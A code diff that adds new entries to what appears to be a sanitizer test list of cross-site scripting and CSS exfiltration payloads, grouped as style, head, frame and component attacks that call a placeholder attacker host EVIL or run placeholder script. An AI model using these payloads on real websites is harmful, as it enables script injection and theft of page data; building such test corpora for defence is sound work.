@@ -81,6 +81,9 @@ const ACTS: Record<string, readonly string[]> = {
     `<svg><use href="data:image/svg+xml;base64,${PICTURE}#x" /><use xlink:href="${EVIL}/u.svg#x" /></svg>`,
   ],
   style: [
+    `<style>@view-transition{navigation:auto}::view-transition-old(root){background:url(${EVIL}/vt)}</style><p style="view-transition-name:x">x</p>`,
+    `<style>body:has(input[value^=a]){background:image-set("${EVIL}/has" 1x)}p{background:attr(title type(<url>));content:attr(data-x)}</style><p title="${EVIL}/attr">x</p>`,
+    `<style>@scope (p) to (a){:scope{background:url(${EVIL}/sc)}}@starting-style{p{background:url(${EVIL}/ss)}}@font-palette-values --p{override-colors:0 red}@position-try --t{inset:0}</style>`,
     `<style>@import "${EVIL}/a.css";</style>`,
     `<style>input[value^=a]{background:url(${EVIL}/?a)}:host{background:url(${EVIL}/h)}</style><input value=abc>`,
     `<style>@font-face{font-family:f;src:url(${EVIL}/f);unicode-range:U+41}p{font-family:f}</style><p>A</p>`,
@@ -115,6 +118,7 @@ const ACTS: Record<string, readonly string[]> = {
     `<textarea autofocus onfocus=${RUN}></textarea><select onfocus=${RUN} autofocus multiple><option></select><output onfocus=${RUN} tabindex=0></output>`,
   ],
   head: [
+    `<link rel=compression-dictionary href="${EVIL}/cd"><link rel=preload as=fetch href="${EVIL}/pl"><link rel=modulepreload as=script href="${EVIL}/mp"><meta http-equiv=delegate-ch content="x ${EVIL}"><meta http-equiv=accept-ch content=dpr>`,
     `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
     `<meta http-equiv=refresh content="0;url=${EVIL}/r">`,
     `<meta http-equiv=content-security-policy content="script-src *"><meta name=referrer content=unsafe-url>`,
@@ -127,6 +131,7 @@ const ACTS: Record<string, readonly string[]> = {
     `<base href="javascript:/${RUN}/"><a href="#">x</a><a href="">y</a><title>z</title>`,
   ],
   frame: [
+    `<iframe loading=eager src="about:blank" srcdoc="<meta http-equiv=refresh content='0;url=${EVIL}/sd'>"></iframe><fencedframe config=x src="${EVIL}/ff"></fencedframe><controlledframe src="${EVIL}/cf"></controlledframe><webview src="${EVIL}/wv"></webview>`,
     `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
     `<iframe src="javascript:${RUN}"></iframe>`,
     `<iframe src="data:text/html;base64,${SCRIPT}"></iframe>`,
@@ -149,6 +154,9 @@ const ACTS: Record<string, readonly string[]> = {
     `<form id=adoptedStyleSheets><button name=content></button><button name=ownerDocument></button><button name=nextSibling></button></form>`,
   ],
   component: [
+    `<template shadowrootmode=open shadowrootadoptedstylesheets=a shadowrootcustomelementregistry><img src="${EVIL}/so" onerror=${RUN}></template>`,
+    `<select><button><selectedcontent></selectedcontent></button><option><img src="${EVIL}/opt" onerror=${RUN}><script>${RUN}</script></option></select>`,
+    `<div popover=auto id=pa ontoggle=${RUN} onbeforetoggle=${RUN}>x</div><button popovertarget=pa interestfor=pa oninterest=${RUN}>y</button><button command=--x commandfor=pa oncommand=${RUN}>z</button>`,
     `<x-evil onclick=${RUN}><slot></slot></x-evil>`,
     `<p is=x-evil onclick=${RUN}>x</p><button is="x-a" type=submit>y</button>`,
     `<div><template shadowrootmode=open><style>:host{background:url(${EVIL}/t)}</style><img src=x onerror=${RUN}></template></div>`,
